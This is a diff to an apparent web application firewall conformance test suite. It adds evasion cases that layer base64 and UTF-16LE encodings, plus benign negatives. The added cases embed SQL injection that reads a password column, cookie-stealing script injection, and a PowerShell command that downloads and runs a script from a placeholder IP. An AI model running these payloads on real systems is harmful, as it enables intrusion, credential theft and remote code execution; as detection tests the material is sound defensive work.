@@ -16,6 +16,7 @@ import { conformanceData, describeNeeding } from '../../helpers/needs.ts';
 
 const b64 = (s: string): string => Buffer.from(s).toString('base64');
 const b64url = (s: string): string => Buffer.from(s).toString('base64url');
+const b64le = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');
 // A 1x1 PNG and the start of a JPEG (JFIF header), as data URIs and JSON fields carry them.
 const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
 const JPEG = '/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=';
@@ -146,6 +147,12 @@ describeNeeding(conformanceData('crs').missing, 'extra rule sets in the CRS (PL1
     { name: 'base64 SQLi in a cookie', req: { uri: '/', headers: [['Cookie', `prefs=${b64("admin' --")}`]] }, rule: 990101 },
     // session 24 WAF evasion audit: what Node's and Python's base64 decoders skip
     { name: 'base64 SQLi with junk characters inside', req: { uri: `/search?data=${encodeURIComponent(b64("1' UNION SELECT password FROM users--").replace(/(.{5})/g, '$1.'))}` }, rule: 990101 },
+    // session 27: decoded twice, UTF-16LE (.NET's Encoding.Unicode), PowerShell's -EncodedCommand
+    { name: 'base64 of base64 SQLi in a query argument', req: { uri: `/search?data=${encodeURIComponent(b64(b64("1' UNION SELECT password FROM users--")))}` }, rule: 990101 },
+    { name: 'three layers of base64 XSS', req: { uri: `/p?t=${encodeURIComponent(b64(b64(b64('<script>alert(document.cookie)</script>'))))}` }, rule: 990102 },
+    { name: 'UTF-16LE base64 SQLi in a JSON field', req: { uri: '/api/items', body: JSON.stringify({ q: b64le("1' UNION SELECT password FROM users--") }) }, rule: 990101 },
+    { name: 'PowerShell -EncodedCommand (UTF-16LE base64) in an argument', req: { uri: `/run?c=${encodeURIComponent(b64le("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"))}` }, rule: 990106 },
+    { name: 'UTF-16LE base64 of base64 SQLi', req: { uri: `/search?data=${encodeURIComponent(b64(b64le("1' UNION SELECT password FROM users--")))}` }, rule: 990101 },
     { name: 'base64 SQLi cut into MIME lines in a JSON field', req: { uri: '/api/items', body: JSON.stringify({ q: b64("1' UNION SELECT password FROM users--").match(/.{1,12}/g)!.join('\r\n') }) }, rule: 990101 },
     { name: 'base64 SQLi in a cookie with percent-encoded + and /', req: { uri: '/', headers: [['Cookie', `prefs=${encodeURIComponent(b64("?>>1' or 'a'='a"))}`]] }, rule: 990101 },
     { name: 'base64 SQLi padded with UTF-8 text', req: { uri: `/search?data=${encodeURIComponent(b64(`1' UNION SELECT password FROM users-- ${'日本語'.repeat(10)}`))}` }, rule: 990101 },
@@ -201,6 +208,9 @@ describeNeeding(conformanceData('crs').missing, 'extra rule sets in the CRS (PL1
         ],
       },
     },
+    // session 27: the layers and UTF-16LE the set now reads, on benign values
+    { name: 'base64 of base64 of a sentence, UTF-16LE base64 of a sentence and of a Windows path', req: { uri: `/?a=${encodeURIComponent(b64(b64('Meet me at the station at 5 pm, bring the tickets.')))}&b=${encodeURIComponent(b64le('Quarterly report, final version (2)'))}&c=${encodeURIComponent(b64le('C:\\Users\\Public\\Documents\\report.docx'))}` } },
+    { name: 'UTF-16LE-looking binary (a BMP header, zero-filled bytes) and a base64 JWT', req: { uri: '/api/upload', body: JSON.stringify({ bmp: Buffer.concat([Buffer.from('BM'), Buffer.alloc(120)]).toString('base64'), token: b64(JWT), zeros: Buffer.alloc(64).toString('base64') }) } },
     { name: 'Accept, Accept-Language and a URL argument', req: { uri: `/r?next=${encodeURIComponent('https://shop.example/orders/2024/summary?page=2&sort=date')}`, headers: [['Accept-Language', 'fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5'], ['Link', '<https://shop.example/style.css>; rel=preload; as=style']] } },
   ];
   for (const n of negatives) {
@@ -229,7 +239,7 @@ describeNeeding(conformanceData('crs').missing, 'extra rule sets in the CRS (PL1
       const claims = b64url(JSON.stringify({ sub: String(100000 + i), name: sentence(), roles: ['user'], exp: 1700000000 + i }));
       const token = `${b64url('{"alg":"RS256","typ":"JWT"}')}.${claims}.${randomBytes(64).toString('base64url')}`;
       const req: Req = {
-        uri: `/shop/search?q=${encodeURIComponent(sentence())}&page=${rnd(50)}&ref=${randomBytes(12).toString('base64url')}&note=${encodeURIComponent(b64(sentence()))}`,
+        uri: `/shop/search?q=${encodeURIComponent(sentence())}&page=${rnd(50)}&ref=${randomBytes(12).toString('base64url')}&note=${encodeURIComponent(b64(sentence()))}&n2=${encodeURIComponent(b64(b64(sentence())))}&w=${encodeURIComponent(b64le(sentence()))}&id=${b64(randomUUID())}`,
         headers: [
           ['Authorization', `Bearer ${token}`],
           ['X-Request-Id', randomUUID()],
